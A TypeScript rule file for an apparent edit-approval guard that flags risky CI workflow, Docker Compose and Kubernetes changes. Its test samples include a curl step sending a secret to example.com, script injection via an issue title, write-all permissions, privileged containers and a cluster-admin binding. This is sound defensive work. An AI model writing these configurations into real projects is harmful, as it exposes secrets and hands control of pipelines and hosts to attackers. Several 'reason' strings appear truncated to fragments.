import type { Rule } from '../rule';

/** What settings of servers, clusters, git and tools come to say by an edit. Commands in them are judged as commands. */
export const settingRules: readonly Rule[] = [
  {
    id: 'edit.pipeline-rights',
    when: { effects: ['change'], details: ['change.pipelineRights'] },
    severity: 70,
    minimum: 'ask',
    settledBy: 'person',
    reason: ', with code that others may get to run there.',
    saferWay: 'Give each job only the rights that it needs: most need `contents: read`.',
    matches: [
      'edit: .github/workflows/x.yml <<< on: push\npermissions: write-all\n',
      'edit: .github/workflows/x.yml <<< {on: push, jobs: {a: {permissions: {id-token: write}}}}',
    ],
    notMatches: ['edit: .github/workflows/x.yml <<< on: push\npermissions:\n  contents: read\n'],
  },
  {
    id: 'edit.pipeline-trigger',
    when: { effects: ['change'], details: ['change.pipelineTrigger'] },
    severity: 70,
    minimum: 'ask',
    settledBy: 'person',
    reason: '.',
    saferWay: 'Let it run for pushes and pull requests only.',
    matches: [
      'edit: .github/workflows/x.yml <<< on: pull_request_target\n',
      'edit: .github/workflows/x.yml <<< {on: push, jobs: {a: {runs-on: self-hosted}}}',
    ],
    notMatches: ['edit: .github/workflows/x.yml <<< on: [push, pull_request]\n'],
  },
  {
    id: 'edit.pipeline-injection',
    when: { effects: ['change'], details: ['change.pipelineInjection'] },
    severity: 75,
    minimum: 'ask',
    settledBy: 'person',
    reason: ', so whoever writes them runs what they like there.',
    saferWay: 'Put the value into `env:` and use the variable, in quotes.',
    matches: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
      'edit: .github/workflows/x.yml <<< {jobs: {a: {steps: [{run: "echo ${{ github.event.issue.title }}"}]}}}',
    ],
    notMatches: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
      'edit: .github/workflows/x.yml <<< {jobs: {a: {steps: [{run: "echo ${{ github.sha }}"}]}}}',
    ],
  },
  {
    id: 'edit.pipeline-secret',
    when: { effects: ['change'], details: ['change.pipelineSecret'] },
    severity: 75,
    minimum: 'ask',
    settledBy: 'person',
    reason: '.',
    saferWay: 'Give a secret only to the step that needs it, and to no script that talks to another host.',
    matches: [
      'edit: .github/workflows/x.yml <<< {jobs: {a: {uses: ./x.yml, secrets: inherit}}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
      'edit: .github/workflows/x.yml <<< {jobs: {a: {steps: [{run: "curl example.com/${{ secrets.KEY }}"}]}}}',
    ],
    notMatches: ['edit: .github/workflows/x.yml <<< {jobs: {a: {steps: [{run: "npm test"}]}}}'],
  },
  {
    id: 'edit.pipeline-action',
    when: { effects: ['change'], details: ['change.pipelineAction'] },
    severity: 55,
    minimum: 'ask',
    settledBy: 'person',
    reason: '.',
    saferWay: 'Name the whole hash of a commit that somebody has looked at.',
    matches: ['edit: action.yml <<< {runs: {using: composite, steps: [{uses: someone/action@v1}]}}'],
    notMatches: [
      'edit: action.yml <<< {runs: {using: composite, steps: [{uses: actions/checkout@v5}]}}',
      'edit: action.yml <<< {runs: {using: composite, steps: [{uses: someone/action@0123456789abcdef0123456789abcdef01234567}]}}',
    ],
  },
  {
    id: 'edit.container',
    when: { effects: ['change'], details: ['change.container'] },
    severity: 70,
    minimum: 'ask',
    settledBy: 'person',
    reason: '.',
    saferWay: 'Give the container a folder, port or right of its own, and no more than it needs.',
    matches: [
      'edit: compose.yaml <<< {services: {a: {privileged: true}}}',
      'edit: compose.yaml <<< {services: {a: {volumes: ["/:/host"]}}}',
      'edit: docker-compose.yml <<< {services: {a: {network_mode: host}}}',
    ],
    notMatches: ['edit: compose.yaml <<< {services: {a: {volumes: ["./data:/data"], ports: ["80:80"]}}}'],
  },
  {
    id: 'edit.cluster-rights',
    when: { effects: ['change'], details: ['change.clusterRights'] },
    severity: 70,
    minimum: 'ask',
    settledBy: 'person',
    reason: '.',
    saferWay: 'Name the verbs and resources that it needs, and no others.',
    matches: [
      'edit: k8s/a.yaml <<< {apiVersion: v1, kind: Pod, spec: {hostNetwork: true}}',
      'edit: k8s/a.yaml <<< {apiVersion: v1, kind: ClusterRoleBinding, roleRef: {name: cluster-admin}}',
    ],
    notMatches: ['edit: k8s/a.yaml <<< {apiVersion: v1, kind: Pod, spec: {hostNetwork: false}}'],
  },
];
